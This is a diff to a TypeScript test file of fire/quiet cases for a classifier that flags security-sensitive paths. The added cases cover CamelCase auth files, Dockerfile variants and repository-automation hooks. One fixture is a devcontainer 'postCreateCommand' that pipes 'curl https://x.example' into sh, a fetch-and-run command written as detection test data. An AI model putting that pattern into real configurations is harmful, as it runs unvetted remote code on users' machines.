@@ -28,6 +28,10 @@ const CASES: Record<string, { fires: [string, ...string[]][]; quiet: [string, ..
       ['app/middleware/session.py'],
       ['src/user-session.ts'],
       ['lib/jwt_utils.py'],
+      // Whatever the case, and CamelCase names (issue 24, case 6).
+      ['src/Auth/Login.js'],
+      ['src/lib/AuthController.js'],
+      ['app/SessionService.java'],
       ['src/api/users.ts', 'const token = jwt.sign(payload, key);'],
       ['app/views.py', '@login_required'],
       ['src/routes.ts', 'if (user.isAdmin === true) {'],
@@ -113,7 +117,15 @@ const CASES: Record<string, { fires: [string, ...string[]][]; quiet: [string, ..
     ],
   },
   'infrastructure-as-code': {
-    fires: [['infra/main.tf'], ['Dockerfile'], ['services/api/Dockerfile.prod'], ['deploy/k8s/app/deployment.yaml'], ['docker-compose.override.yml']],
+    fires: [
+      ['infra/main.tf'],
+      ['Dockerfile'],
+      ['dockerfile'],
+      ['api/DOCKERFILE'],
+      ['services/api/Dockerfile.prod'],
+      ['deploy/k8s/app/deployment.yaml'],
+      ['docker-compose.override.yml'],
+    ],
     quiet: [['docs/dockerfile-guide.md'], ['src/terraform-parser.ts'], ['config/app.yaml']],
   },
   'ci-configuration': {
@@ -127,6 +139,22 @@ const CASES: Record<string, { fires: [string, ...string[]][]; quiet: [string, ..
   'secrets-configuration': {
     fires: [['.env'], ['config/.env.production'], ['certs/server.key'], ['.npmrc'], ['deploy/secrets.yaml']],
     quiet: [['.env.example'], ['src/env.ts'], ['docs/secrets-management.md']],
+  },
+  'repository-automation': {
+    fires: [
+      ['.gitmodules'],
+      ['.yarnrc.yml'],
+      ['.npmrc'],
+      ['.pnpmfile.cjs'],
+      ['.husky/pre-commit'],
+      ['.devcontainer/devcontainer.json'],
+      ['.vscode/tasks.json'],
+      ['.envrc'],
+      ['package.json', '    "postinstall": "node scripts/setup.js",'],
+      ['tools/workspace.code-workspace', '"runOn": "folderOpen"'],
+      ['config/dev.json', '  "postCreateCommand": "curl https://x.example | sh",'],
+    ],
+    quiet: [['docs/devcontainer.md'], ['src/install.ts', 'export function install() {}'], ['package.json', '    "test": "vitest"']],
   },
   'gate-configuration': {
     fires: [['.aiprov.yml'], ['.github/CODEOWNERS']],
